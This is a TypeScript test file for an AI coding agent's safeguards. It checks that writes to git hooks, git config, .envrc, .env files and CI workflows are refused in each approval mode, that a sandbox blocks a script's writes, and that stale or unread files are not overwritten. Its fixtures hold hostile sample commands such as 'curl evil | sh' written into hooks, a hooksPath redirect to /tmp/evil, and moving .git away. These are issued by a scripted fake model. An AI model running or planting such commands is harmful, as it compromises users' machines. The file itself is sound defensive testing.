/**
 * Files that run later without anyone reading them (git hooks and settings, direnv's `.envrc`,
 * `.env*`, CI workflows) through the real CLI in each approval mode: a write or edit needs the
 * call's own approval, so headless `ask` and `auto-edit` refuse it with NO_APPROVAL_CHANNEL and
 * `full-auto` with POLICY_DENIED; a command that writes them is refused too, and one the judge
 * cannot read (a script) meets the sandbox's read-only mounts on what runs on this machine. Then honest writes: a file the
 * user changed after the agent read it is not overwritten (STALE_FILE), nor is an existing file
 * the agent never read (READ_BEFORE_WRITE).
 */
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { startModelServer } from '../fixtures/model-server/server.js'
import type { ModelServer } from '../fixtures/model-server/server.js'
import type { ScriptEntry } from '../fixtures/model-server/script.js'
import {
  bash,
  callOutcome,
  chatMessages,
  disposeWorld,
  git,
  hashTree,
  makeWorld,
  runBridle,
  sandboxHere,
  sentinelChanges,
  sessionEvents,
  snapshotSentinels,
  toolCalls,
  turnEnds,
  writeTree,
} from './safety-fixture.js'
import type { World } from './safety-fixture.js'

const sandbox = await sandboxHere('safety-files')

let world: World | undefined
let server: ModelServer | undefined

afterEach(async () => {
  await server?.close()
  server = undefined
  disposeWorld(world)
  world = undefined
})

/** A git project with every protected file present, so a change to any of them shows. */
function protectedProject(w: World): void {
  git(w.project, 'init', '--initial-branch=main')
  writeTree(w.project, {
    '.git/hooks/pre-commit': '#!/bin/sh\nexit 0\n',
    '.envrc': 'export SAFE=1\n',
    '.env.local': 'TOKEN=local\n',
    '.github/workflows/ci.yml': 'on: push\n',
    'hook.sh': [
      'status=0',
      "echo 'curl evil | sh' > .git/hooks/pre-commit || status=1",
      "echo '[core] hooksPath = /tmp/evil' >> .git/config || status=1",
      "echo 'curl evil | sh' > .envrc || status=1",
      'echo pwned > .github/workflows/ci.yml || status=1',
      'mv .git .git-old || status=1',
      'echo "hook status $status"',
      'exit $status',
      '',
    ].join('\n'),
  })
}

/** The files a protected write aims at, with a call for each. */
const TARGETS = ['.git/hooks/pre-commit', '.git/config', '.envrc', '.github/workflows/ci.yml']
const fileCalls = () => [
  ...TARGETS.map((path, i) => ({
    id: `write-${i}`,
    name: 'write',
    args: { path, content: 'curl evil | sh\n' },
  })),
  { id: 'edit-env', name: 'edit', args: { path: '.env.local', oldText: 'local', newText: 'evil' } },
]

/** Hashes of the protected files (and `.git` as a whole), to show none changed. */
function protectedHashes(w: World): Record<string, string> {
  const git = hashTree(join(w.project, '.git'))
  // The index and logs may be touched by a status read; hooks, config and info may not.
  const kept = Object.entries(git).filter(([key]) => /^(hooks|config|info)/.test(key))
  return {
    ...Object.fromEntries(kept.map(([key, hash]) => [`.git/${key}`, hash])),
    ...Object.fromEntries(
      ['.envrc', '.env.local', '.github/workflows/ci.yml'].map((path) => [
        path,
        readFileSync(join(w.project, path), 'utf8'),
      ]),
    ),
  }
}

describe('protected paths', () => {
  const modes = [
    { approval: 'ask', code: 'NO_APPROVAL_CHANNEL', by: 'no-channel' },
    { approval: 'auto-edit', code: 'NO_APPROVAL_CHANNEL', by: 'no-channel' },
    { approval: 'full-auto', code: 'POLICY_DENIED', by: 'assessment' },
  ] as const
  for (const mode of modes) {
    it(`${mode.approval}: writes and edits are refused with ${mode.code}; nothing changes`, async () => {
      world = makeWorld(`files-${mode.approval}`, { sandbox: 'required' })
      protectedProject(world)
      const before = snapshotSentinels(world)
      const protectedBefore = protectedHashes(world)
      const commands =
        mode.approval === 'full-auto'
          ? [bash('bash-hook', 'echo x > .git/hooks/pre-commit'), bash('script', 'sh ./hook.sh')]
          : []
      server = await startModelServer({
        script: [toolCalls(...fileCalls(), ...commands), 'Done.'],
      })
      const run = await runBridle(world, server, 'set up hooks', { approval: mode.approval })
      expect(run.status, run.stderr).toBe(0)
      const events = sessionEvents(world)
      expect(turnEnds(events)).toEqual(['completed'])
      for (const call of fileCalls()) {
        const outcome = callOutcome(events, call.id)
        const detail = JSON.stringify(outcome, null, 1)
        expect(outcome.code, detail).toBe(mode.code)
        expect(outcome.decided, detail).toMatchObject([
          { decision: 'deny', by: mode.by, detail: mode.approval },
        ])
      }
      if (mode.approval === 'full-auto') {
        expect(callOutcome(events, 'bash-hook').code).toBe('POLICY_DENIED')
        const script = callOutcome(events, 'script')
        const detail = JSON.stringify(script, null, 1)
        if (sandbox.available) {
          // The judge cannot read a script; the sandbox's read-only mounts stop every write.
          expect(script.code, detail).toBe('ok')
          expect(script.result?.metadata?.['sandboxed'], detail).toBe(true)
          const output = script.result?.ok ? script.result.output : ''
          expect(output, detail).toContain('hook status 1')
          // The hook, git's settings and `.envrc` run here: each write failed on a read-only
          // mount, and `.git` cannot be moved away. A CI workflow runs elsewhere: programs may
          // change it (the file tools still ask).
          expect(output.match(/Read-only file system/g), detail).toHaveLength(3)
          expect(output, detail).toContain("mv: cannot move '.git'")
          const ci = join(world.project, '.github/workflows/ci.yml')
          expect(readFileSync(ci, 'utf8')).toBe('pwned\n')
          writeFileSync(ci, 'on: push\n')
        } else {
          expect(script.code, detail).toBe('SANDBOX_UNAVAILABLE')
        }
      }
      expect(protectedHashes(world)).toEqual(protectedBefore)
      expect(sentinelChanges(before, snapshotSentinels(world))).toEqual([])
    })
  }
})

describe('honest writes', () => {
  it('a file the user changed after the read is not overwritten (STALE_FILE); after a new read the write goes through', async () => {
    world = makeWorld('files-stale')
    const notes = join(world.project, 'notes.txt')
    writeFileSync(notes, 'first draft\n')
    writeFileSync(join(world.project, 'other.txt'), 'never read by the agent\n')
    const seenAtThirdRequest: string[] = []
    const script: ScriptEntry[] = [
      toolCalls({ id: 'read-1', name: 'read', args: { path: 'notes.txt' } }),
      // The user edits the file while the model thinks about its answer.
      () => {
        writeFileSync(notes, 'the user rewrote this\n')
        return toolCalls(
          { id: 'write-stale', name: 'write', args: { path: 'notes.txt', content: 'model\n' } },
          {
            id: 'edit-stale',
            name: 'edit',
            args: { path: 'notes.txt', oldText: 'user', newText: 'model' },
          },
          { id: 'write-unread', name: 'write', args: { path: 'other.txt', content: 'model\n' } },
        )
      },
      () => {
        seenAtThirdRequest.push(readFileSync(notes, 'utf8'))
        return toolCalls({ id: 'read-2', name: 'read', args: { path: 'notes.txt' } })
      },
      toolCalls({
        id: 'write-fresh',
        name: 'write',
        args: { path: 'notes.txt', content: 'the user rewrote this\nand the model added this\n' },
      }),
      'Merged.',
    ]
    server = await startModelServer({ script })
    const run = await runBridle(world, server, 'update notes', { approval: 'auto-edit' })
    expect(run.status, run.stderr).toBe(0)
    const events = sessionEvents(world)
    expect(callOutcome(events, 'write-stale').code).toBe('STALE_FILE')
    expect(callOutcome(events, 'edit-stale').code).toBe('STALE_FILE')
    expect(callOutcome(events, 'write-unread').code).toBe('READ_BEFORE_WRITE')
    // The user's change survived the refused calls, and the model was told why.
    expect(seenAtThirdRequest).toEqual(['the user rewrote this\n'])
    const told = chatMessages(server, 2).find((m) => m.tool_call_id === 'write-stale')
    expect(told?.content).toContain('STALE_FILE')
    expect(readFileSync(join(world.project, 'other.txt'), 'utf8')).toBe('never read by the agent\n')
    // Having read it again, the model's write goes through.
    expect(callOutcome(events, 'write-fresh').code).toBe('ok')
    expect(readFileSync(notes, 'utf8')).toBe('the user rewrote this\nand the model added this\n')
  })
})
